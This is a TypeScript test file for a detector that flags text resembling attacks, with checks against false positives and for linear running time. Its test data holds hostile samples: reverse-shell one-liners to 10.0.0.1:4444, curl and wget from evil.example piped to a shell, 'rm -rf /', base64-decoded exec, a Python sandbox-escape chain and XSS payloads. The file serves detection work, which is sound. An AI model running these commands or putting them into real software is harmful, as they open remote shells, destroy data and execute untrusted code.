import { describe, expect, test } from "vitest";
import { alarmingText } from "./payload-text.ts";

describe("texts that read like an attack", () => {
  test.each([
    "import os; os.system('echo pwned')",
    "x = __import__('os').popen('id').read()",
    "import base64; exec(base64.b64decode('cHJpbnQoImV2aWwiKQ=='))",
    "eval(compile(open('x').read(), 'x', 'exec'))",
    "subprocess.run(['rm', '-rf', '/tmp/x'])",
    "subprocess.Popen('id', shell=True)",
    "pickle.loads(base64.b64decode(data))",
    "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444))",
    "curl http://evil.example/x.sh | sh",
    "wget -qO- https://evil.example/x | sudo bash",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "nc -e /bin/sh 10.0.0.1 4444",
    "echo aWQ= | base64 -d | sh",
    "powershell -enc SQBFAFgA",
    "rm -rf /",
    "().__class__.__base__.__subclasses__()",
    "<script>fetch('http://evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
  ])("%s", (text) => {
    expect(alarmingText(`metadata: ${text}`)).toMatchObject({ what: expect.any(String) });
  });

  test("with their place", () => {
    expect(alarmingText("some words before os.system('id')")).toMatchObject({ offset: 18 });
  });

  test("in base64", () => {
    expect(alarmingText(Buffer.from("os.system('echo ATTACK')").toString("base64"))?.what).toBe("a call that starts a process in base64");
    expect(alarmingText(Buffer.from("\x80\x04cos\nsystem\n(Vecho hello\ntR.", "latin1").toString("base64"))?.what).toBe(
      "a pickle in base64",
    );
  });
});

describe("texts about such things", () => {
  test.each([
    "Never call os.system or eval on what a stranger wrote.",
    "The subprocess module spawns processes; see os.system() and subprocess.run().",
    "vocabulary: import os system subprocess eval exec __import__ open socket",
    "Use curl to download the model, then run the script with bash.",
    "pip install transformers && python train.py",
    "def forward(self, x):\n    return self.layer(x)",
    "{% for message in messages %}{{ message['content'] }}{% endfor %}",
    "model.eval()\nwith torch.no_grad():\n    out = model(x)",
    "It evaluates (exec time 3 s), executes, and systematically improves.",
    "<s>[INST] <<SYS>>\nYou are helpful\n<</SYS>>\n[/INST]",
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
    "",
  ])("%s", (text) => {
    expect(alarmingText(text)).toBeUndefined();
  });
});

test.each(["<script ", "os.system(", "curl ", "import os;", "socket.socket(", "<a onerror ", "powershell ", "echo "])(
  "%j without end takes linear time",
  (part) => {
    const started = performance.now();
    alarmingText(part.repeat(Math.ceil(300_000 / part.length)));
    expect(performance.now() - started).toBeLessThan(2000);
  },
);
